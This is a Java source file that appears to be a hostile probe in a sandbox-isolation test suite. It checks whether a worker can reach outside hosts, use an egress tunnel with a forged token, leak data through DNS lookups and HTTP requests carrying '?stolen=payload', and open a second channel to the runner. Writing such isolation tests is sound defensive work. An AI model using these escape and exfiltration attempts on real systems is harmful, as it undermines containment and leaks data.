package com.mallory.hostile;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.StandardProtocolFamily;
import java.net.URI;
import java.net.UnixDomainSocketAddress;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

/** Ways to others: plain connections, the egress socket, names. */
final class Network {
  private static final Path FOLDER = Path.of("/run/tributary");
  private static final int MILLIS = 500;

  private Network() {}

  /** Each target is a label, a host and a port, with blanks between. */
  static void connect(List<String> targets, Said said) {
    for (var target : targets) {
      var part = target.split(" ");
      try (var socket = new Socket()) {
        socket.connect(new InetSocketAddress(part[1], Integer.parseInt(part[2])), MILLIS);
        said.add(true, target, "connected");
      } catch (IOException refused) {
        said.add(false, target, refused);
      }
    }
  }

  /** The same through the tunnel, with the worker's own token. */
  static void egress(List<String> targets, Said said) throws IOException {
    var token = Files.readString(FOLDER.resolve("token"));
    for (var target : targets) {
      var part = target.split(" ");
      var answer = ask("CONNECT " + part[1] + " " + part[2] + " " + token + "\n");
      said.add(!answer.startsWith("REFUSED"), target + " by tunnel", answer);
    }
    var stolen = ask("CONNECT declared.example 443 " + "x".repeat(43) + "\n");
    said.add(!stolen.startsWith("REFUSED"), "R9 tunnel with another token", stolen);
  }

  /** What is told to a name server is told to its owner. */
  static void resolve(List<String> names, Said said) {
    for (var name : names) {
      try {
        said.add(true, "R9 name " + name, InetAddress.getByName(name));
      } catch (IOException unknown) {
        said.add(false, "R9 name " + name, unknown);
      }
      try (var http = HttpClient.newHttpClient()) {
        var request =
            HttpRequest.newBuilder(URI.create("http://" + name + "/?stolen=payload"))
                .timeout(Duration.ofSeconds(2))
                .build();
        var status = http.send(request, BodyHandlers.discarding()).statusCode();
        said.add(true, "R9 http " + name, status);
      } catch (IOException refused) {
        said.add(false, "R9 http " + name, refused);
      } catch (InterruptedException stopped) {
        Thread.currentThread().interrupt();
      }
    }
    second(said);
  }

  /** The socket on which the host was taken in. */
  private static void second(Said said) {
    try (var channel = SocketChannel.open(StandardProtocolFamily.UNIX)) {
      channel.connect(UnixDomainSocketAddress.of(FOLDER.resolve("step.sock")));
      said.add(true, "R2 a second conversation with the runner", "connected");
    } catch (IOException refused) {
      said.add(false, "R2 a second conversation with the runner", refused);
    }
  }

  private static String ask(String line) throws IOException {
    try (var channel = SocketChannel.open(StandardProtocolFamily.UNIX)) {
      channel.connect(UnixDomainSocketAddress.of(FOLDER.resolve("egress.sock")));
      channel.write(ByteBuffer.wrap(line.getBytes(StandardCharsets.US_ASCII)));
      var answer = ByteBuffer.allocate(512);
      channel.read(answer);
      return new String(answer.array(), 0, answer.position(), StandardCharsets.UTF_8);
    }
  }
}
